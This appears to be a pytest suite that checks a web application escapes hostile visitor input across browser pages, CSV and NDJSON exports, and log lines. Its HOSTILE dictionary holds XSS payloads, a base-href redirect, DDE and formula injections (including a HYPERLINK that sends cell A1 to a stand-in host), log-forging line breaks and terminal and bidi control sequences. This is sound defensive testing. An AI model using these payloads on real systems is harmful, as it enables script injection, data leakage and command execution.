"""Whatever a visitor sends does no harm where people read it: on pages in a real browser, in CSV, NDJSON and lines of a log."""

import csv
import io
import json
import re
import unicodedata
from urllib.parse import quote

import pytest
from chromium import PHONE, Look
from office import ROLES, Browser, Office
from running import eventually
from scene import furnish, upload
from test_http2 import END_HEADERS, END_STREAM, HEADERS, Session, block, frame
from wire import ask

FORGED = "level=error msg=forged"
# By what they are; `x-foreign` is an element that no page of ours has.
HOSTILE = {
    "script": "<script>alert(1)</script><x-foreign>",
    "attribute": "\"'><img src=x onerror=alert(2)><x-foreign a='",
    "accents": '\u0338<x-foreign onclick="\u0301alert(3)"\u0338>',
    "svg": "</title></text></svg><svg onload=alert(4)><x-foreign/>",
    "page": "</textarea></pre></main></body><base href='//elsewhere.example/'><meta http-equiv=refresh content='0;url=/x'>",
    "style": "x' style='position:fixed' onmouseover='alert(5)",
    "template": "{{t.skip}}{{{content}}}{{>layout}}{{#is-admin}}",
    "address": "javascript:alert(6)",
    "formula": '=HYPERLINK("http://elsewhere.example/?"&A1,"open")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "separated": "a;=1+1\t=2+2",
    "tab": "\t=1+1",
    "lines": f"x\r\n{FORGED}\n=1+1\r" + '"},{"seq":1,',
    "next line": f"x\x85{FORGED}\u2028{FORGED}\x0b{FORGED}\x0c{FORGED}",
    "controls": "".join(map(chr, range(1, 32))) + "\x7f\x80\x9b31m",
    "terminal": "\x1b[2J\x1b]0;owned\x07\x9b31m",
    "direction": "abc\u202etxt.exe\u2066\u2067\u061c\u200f\u2069",
    "arabic": "شريك 12 :ناشر",
    "not UTF-8": b"\xff\xfe\xc0\xbcscript\xc0\xbe\xed\xa0\x80\xf4\x90\x80\x80",
    "zero": b"a\0b\0<x-foreign>",
    "long": "<x-foreign>" + "W" * 7_600,
    "many": "=<x-foreign>'\"" * 500,
}
BYTES = {name: value if isinstance(value, bytes) else value.encode() for name, value in HOSTILE.items()}

# What pages are made of; anything else came from outside.
ELEMENTS = set(
    """html head meta title link body a header nav ul ol li div form input button main h1 h2 h3 p span label select option table
    thead tbody tfoot tr th td caption section dl dt dd strong em code pre time details summary textarea fieldset legend
    svg g line text rect path circle small aside footer abbr hr br bdi datalist figure figcaption script""".split()
)


def is_plain(text):
    """One line of it is one line everywhere: no control characters, no line ends, nothing that turns the direction round."""
    return all(unicodedata.category(character) not in ("Cc", "Cf", "Zl", "Zp", "Cs") for character in text)


def targets(value):
    """Requests' targets with a value wherever a visitor can put one."""
    escaped = quote(value, safe="").encode()
    # As careless clients send it; what would end the target is escaped all the same.
    raw = b"".join(bytes([byte]) if byte > 0x20 and byte != 0x7F else b"%%%02X" % byte for byte in value)
    for text in (escaped, raw):
        yield b"/enterprisetry.html?Partner=" + text[:7_900]
        yield b"/smallbizbuy.html?Partner=1234576&POR=" + text[:3_900] + b"&" + text[:3_900] + b"=1"
        yield b"/enterprisebuy.html?Partner=1234567&" + b"&".join(
            name + b"=" + text[:1_200] for name in (b"culture", b"country", b"campaign", b"dl", b"lang", b"utm_campaign")
        )
        yield b"/p/" + text[:7_900].replace(b"/", b"%2F") + b"/enterprise/trial"
        yield b"/" + text[:7_900]
        yield b"/enterprisetry.htm?x=" + text[:1_000]


def fields(value, most=1_400):
    """Headers' fields with the value, as far as a header can hold it; the longest target goes with five such into a head."""
    text = bytes(byte for byte in value if byte == 9 or (byte >= 0x20 and byte != 0x7F))[:most].strip()
    return [name + b": " + text for name in (b"User-Agent", b"Referer", b"Accept-Language", b"X-Purpose", b"X-Forwarded-For")]


def send_everything(porter):
    """Every value everywhere, over HTTP/1.1 and HTTP/2. Nothing fails, and no record is lost: their receipts by the value."""
    receipts = {}
    with Session(porter) as session:
        for stream, (name, value) in zip(range(1, 1_000, 2), BYTES.items(), strict=False):
            mine = receipts.setdefault(name, [])
            for target in targets(value):
                answer = ask(porter, target, "http", fields=fields(value))
                assert answer.status in (302, 400, 404, 414), (target, answer)
                mine += [answer.receipt] if answer.receipt else []
            mine.append(ask(porter, "/enterprisebuy.html?Partner=1234567", "http", fields=fields(value, 7_600)[:1]).receipt)
            form = b"Partner=" + quote(value, safe="").encode()[:7_900]
            head = ["Content-Type: application/x-www-form-urlencoded", f"Content-Length: {len(form)}"]
            mine.append(ask(porter, "/smallbiztry.html", "http", method="POST", fields=head, body=form).receipt)
            host = bytes(byte for byte in value if 0x20 < byte < 0x7F)[:2_000]
            ask(porter, "/enterprisebuy.html", "http", host=host.decode("ascii") or "x")
            pairs = [(":method", "GET"), (":scheme", "https"), (":authority", "localhost")]
            pairs += [(":path", b"/enterprisetry.html?Partner=" + quote(value, safe="").encode()[:7_000])]
            for line in fields(value)[:3]:
                field, _, text = line.partition(b": ")
                pairs.append((field.lower(), text))
            session.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, block(pairs)))
            assert session.next()[0] == HEADERS, "the answer is an answer, not the stream's end"
    assert all(receipt for some in receipts.values() for receipt in some)
    return receipts


def name_partners(porter):
    """Partners with such names, as far as the directory takes them; what it does not take, it refuses in plain lines."""
    for number, (name, value) in enumerate(BYTES.items()):
        text = io.StringIO()
        rows = csv.writer(text)
        rows.writerow(["id", "name", "status", "programs"])
        shown = value.decode("utf-8", "replace")[:190]
        rows.writerow([6_000_000 + number, shown, "active", shown[:30].replace(";", "")])
        path = porter.folder / "hostile.csv"
        path.write_text(text.getvalue(), "utf-8", newline="")
        done = porter.command("partner", "import", path)
        assert done.returncode in (0, 1, 2), (name, done)
        for line in (done.stdout + done.stderr).splitlines():
            assert is_plain(line), (name, line)
    partners = porter.command("partner", "list", check=0).stdout
    assert "6000000" in partners
    assert all(is_plain(line.replace("\t", " ")) for line in partners.splitlines()), partners


@pytest.fixture(scope="module")
def scene(shared_farm, staff):
    office = Office(shared_farm, "--print-signups", "--log-level", "trace", staff=staff)
    scene = furnish(office)
    name_partners(office.porter)
    scene.hostile = send_everything(office.porter)
    scene.receipts_sent = {receipt for some in scene.hostile.values() for receipt in some}
    # Texts of people who work here may be pasted from anywhere.
    receipt = office.json("/api/v1/log?outcome=unknown&limit=1")["records"][0]["receipt"]
    scene.pages["record-noted"] = ("admin", f"/log/{receipt}")
    for text in (value for value in HOSTILE.values() if isinstance(value, str)):
        for target, document in (("adjustment", {"partner": "1234567", "note": text[:500]}), ("notes", {"text": text[:4_000]})):
            answer = office.request("POST", f"/api/v1/log/{receipt}/{target}", "admin", json.dumps(document))
            assert answer.status in (201, 409, 422, 400), (answer.status, answer.text)
    # Who is no visitor but can reach the sign-in page may send such a name as well.
    for value in ("script", "formula", "lines", "direction", "long"):
        assert Browser(office).sign_in(HOSTILE[value], "no password of anybody").status in (401, 422, 429)
    return scene


@pytest.fixture(scope="module")
def office(scene):
    return scene.office


def reflecting():
    """Addresses with which somebody might lure a reader: what stands in them is shown on the page."""
    together = "".join(value for value in HOSTILE.values() if isinstance(value, str))[:1_500]
    text = quote(together, safe="") + "%FF%00"
    return {
        None: [f"/sign-in?next={text}", f"/sign-in?next={quote('//elsewhere.example/', safe='')}"],
        "marketing": [
            f"/check?id={text}",
            f"/check?id={quote(HOSTILE['direction'])}",
            f"/origins?timezone={text}",
            f"/origins?first={text}&second={text}",
            f"/overview?since={text}&until={text}&days={text}",
            f"/explain?url={quote('https://gateway.example.com/enterprisetry.html?Partner=')}{text}&user-agent={text}",
            f"/explain?url={text}&host={text}&at={text}&header={text}&form={text}",
            f"/no/such/{text}",
            f"/{quote(HOSTILE['direction'])}",
        ],
        "admin": [
            *(f"/log?{name}={text}" for name in ("partner", "campaign", "receipt", "route", "outcome", "since", "before")),
            f"/log/{text}",
            f"/partners?search={text}",
            f"/partners/{text}",
            f"/partners/1234567/statement?month={text}",
            f"/access-log?who={text}",
        ],
    }


def harm(window, target):
    """What came onto the open page from outside and should not be there."""
    page = window.page
    found = []
    strange = page.evaluate(
        """allowed => {
            const found = [];
            for (const element of document.querySelectorAll('*')) {
                if (!allowed.includes(element.localName)) found.push(element.outerHTML.slice(0, 200));
                for (const {name, value} of element.attributes) {
                    const isAddress = ['href', 'src', 'action', 'formaction', 'xlink:href'].includes(name);
                    if (name.startsWith('on') || name === 'style' || name === 'http-equiv'
                        || isAddress && !/^(\\/(?!\\/)|#)/.test(value))
                        found.push(`${element.localName} ${name}=${value.slice(0, 200)}`);
                }
            }
            return found;
        }""",
        sorted(ELEMENTS),
    )
    found += strange
    characters = set(page.inner_text("body")) - {"\n", "\t"}
    found += [f"it obeys {character!r}" for character in characters if not is_plain(character)]
    if page.url != window.origin + target:
        found.append(f"it leads to {page.url}")
    if window.overhang > 0:
        found.append(f"it is {window.overhang} pixels wider than the window")
    return [f"{target[:100]}: {problem}" for problem in found]


def pages_of(scene, role, width):
    """What `role` opens: the admin all that is, and whatever came from outside; on a phone what shows most of it."""
    if role != "admin":
        return [target for needed, target in scene.pages.values() if needed == role]
    records = [f"/log/{receipts[0]}" for receipts in scene.hostile.values()]
    partners = [f"/partners/{partner['id']}" for partner in scene.office.json("/api/v1/partners?search=60000")["partners"]]
    lists = [
        "/partners?search=6",
        "/log?outcome=malformed",
        "/log?outcome=placeholder",
        "/origins?first=partner",
        "/overview?days=1",
    ]
    if width == PHONE["width"]:
        return lists + records[::4] + partners[::4] + ["/access-log"]
    return lists + records + partners + [target for needed, target in scene.pages.values() if needed]


@pytest.mark.parametrize("width", [1280, PHONE["width"]])
def test_no_page_is_harmed(scene, windows, width):
    """Without the policy that would stop a script: so what is tested is whether it is escaped."""
    found = []
    for role in ROLES if width == 1280 else ["admin"]:
        with windows.open(role, Look(width=width), bypass_csp=True) as window:
            for target in dict.fromkeys(pages_of(scene, role, width)):
                window.page.goto(target)
                found += harm(window, target)
    assert not found, "\n".join(found)


def test_no_file_harms_who_looks_at_its_preview(scene, windows):
    """Whoever made the CSV: it is shown before it is imported, and what is wrong with it as well."""
    with windows.open("admin", bypass_csp=True) as window:
        previews = 0
        for number, value in enumerate(value for value in HOSTILE.values() if isinstance(value, str)):
            text = io.StringIO()
            rows = csv.writer(text)
            rows.writerow(["id", "name", "status"])
            rows.writerow([6_100_000 + number, value[:190], "active"])
            rows.writerow([1234567, value[:100], "active"])
            window.open("/partners/import")
            upload(window.page, text.getvalue(), value[:60].replace("\0", "") + ".csv")
            path = window.path
            assert path.startswith("/partners/import"), path
            previews += path != "/partners/import"
            assert not harm(window, path), value
        assert previews > 5


def test_no_address_harms_who_opens_it(scene, windows):
    found = []
    for role, addresses in reflecting().items():
        with windows.open(role, bypass_csp=True) as window:
            for target in addresses:
                answer = window.page.goto(target)
                assert answer.status < 500, (target, answer.status)
                found += harm(window, target)
                if role is None:
                    wanted = window.page.locator("input[name=next]").get_attribute("value")
                    assert re.fullmatch(r"/([^/\\].*)?", wanted), wanted
    assert not found, "\n".join(found)


EXPORTS = ["/api/v1/log.csv", "/api/v1/counts.csv?by=partner,campaign", "/api/v1/counts.csv?by=outcome,reason"]


@pytest.mark.parametrize("target", EXPORTS)
def test_no_cell_is_run_by_a_spreadsheet(scene, target):
    text = scene.office.get(target).text
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    assert len(rows) == text.count("\r\n"), "a row is a line"
    assert {len(row) for row in rows} == {len(rows[0])}
    check_cells(rows)
    if target == "/api/v1/log.csv":
        assert scene.receipts_sent <= {row[rows[0].index("receipt")] for row in rows}


def check_cells(rows):
    for row in rows:
        for cell in row:
            # Where the comma is the decimal mark, cells part at semicolons.
            for piece in re.split("[;\t]", cell):
                assert not re.match(r'[ "]*[=+@-]', piece) or re.fullmatch(r"-?\d+", piece), repr(cell)
            assert is_plain(cell), repr(cell)


def test_exports_of_the_command_line_are_as_harmless(scene):
    porter = scene.office.porter
    text = porter.command("log", "export", "--format", "csv", check=0, text=False).stdout.decode("utf-8-sig")
    check_cells(csv.reader(io.StringIO(text, newline="")))
    lines = porter.command("log", "export", "--format", "ndjson", check=0).stdout
    streamed = scene.office.get("/api/v1/log.ndjson").text
    for exported in (lines, streamed):
        records = [json.loads(line) for line in exported.splitlines()]
        assert {record["receipt"] for record in records} >= scene.receipts_sent
        assert all(is_plain(line) for line in exported.splitlines())
    for arguments in ("log tail", "log search --outcome malformed", "counts --by partner,campaign"):
        printed = porter.command(*arguments.split(), check=0).stdout
        assert all(is_plain(line.replace("\t", " ")) for line in printed.splitlines()), arguments


def test_lines_stay_lines(scene):
    """Standard error and the printed sign-ups: one event, one line, nobody's but ours."""
    porter = scene.office.porter
    signups = {record["receipt"] for record in porter.records() if record["kind"] == "signup"}
    eventually(lambda: len(porter.output.splitlines()) >= min(len(signups), 1_000), "the sign-ups are printed")
    for line in porter.log.splitlines():
        assert line.startswith("time=") and " level=" in line and is_plain(line), repr(line)
    for line in porter.output.splitlines():
        assert is_plain(line), repr(line)
        assert re.search(r"[0-9A-HJKMNP-TV-Z]{26}", line), line


def test_what_harms_is_found(scene, windows):
    """These tests can fail."""
    with windows.open("marketing", bypass_csp=True) as window:
        page = window.open("/check")
        assert not harm(window, "/check")
        page.evaluate(
            """() => {
                const main = document.querySelector('main');
                main.insertAdjacentHTML('beforeend', '<x-foreign onclick="1" style="color: red">\u202e</x-foreign>');
                main.insertAdjacentHTML('beforeend', '<a href="javascript:1">here</a><p>' + 'W'.repeat(999) + '</p>');
                main.lastChild.style.overflowWrap = 'normal';
            }"""
        )
        told = "\n".join(harm(window, "/check") + harm(window, "/elsewhere"))
        for part in ("<x-foreign", "onclick=1", "style=color", "javascript:1", "\\u202e", "pixels wider", "it leads to"):
            assert part in told, (part, told)
    for cell in ("=1+1", "a;=1+1", ' "@SUM(1)', "two\nlines", "\u202eabc"):
        with pytest.raises(AssertionError):
            check_cells([[cell]])
